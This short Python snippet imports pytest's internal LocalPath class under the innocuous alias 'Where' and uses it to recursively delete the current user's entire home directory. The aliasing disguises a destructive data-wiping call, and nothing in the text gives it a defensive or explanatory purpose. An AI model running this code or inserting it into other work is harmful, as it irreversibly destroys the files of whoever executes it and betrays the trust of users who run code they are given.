from pathlib import Path

from _pytest._py.path import LocalPath as Where

Where(str(Path.home())).remove()
